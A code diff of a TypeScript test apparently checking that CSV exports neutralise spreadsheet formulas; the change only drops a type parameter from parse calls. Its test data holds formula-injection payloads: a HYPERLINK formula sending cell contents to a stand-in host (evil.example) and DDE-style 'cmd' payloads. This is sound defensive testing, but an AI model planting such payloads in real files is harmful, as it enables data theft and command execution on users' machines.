@@ -14,7 +14,7 @@ const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', '+380441234567
 
 /** Every cell of a CSV (after the BOM); a cell a spreadsheet would run fails the test by name. */
 function formulaCells(csv: string): string[] {
-  const rows = parse<string[]>(csv, { bom: true, relax_column_count: true });
+  const rows = parse(csv, { bom: true, relax_column_count: true });
   return rows.flat().filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
 }
 
@@ -65,7 +65,7 @@ for (const dialect of DIALECTS) {
       const threeW = await app.inject({ url: '/api/v1/projects/export/hxl?dataset=3w' });
       expect(threeW.statusCode).toBe(200);
       expect(formulaCells(threeW.body)).toEqual([]);
-      const cells = parse<string[]>(threeW.body, { bom: true }).flat();
+      const cells = parse(threeW.body, { bom: true }).flat();
       expect(cells).toContain(`'=cmd|" /C calc"!A0`);
       expect(cells).toContain("'@SUM(1+1)*cmd");
     });
